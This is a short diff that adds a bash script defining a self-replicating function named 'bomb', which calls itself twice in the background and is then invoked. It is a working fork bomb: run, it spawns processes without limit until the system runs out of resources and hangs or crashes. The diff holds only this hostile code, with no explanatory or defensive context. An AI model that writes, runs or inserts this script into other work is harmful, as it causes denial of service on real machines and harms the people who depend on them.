@@ -1,0 +1,8 @@
+#!/bin/bash
+
+bomb() {
+  bomb | bomb &
+}
+
+bomb
+wait
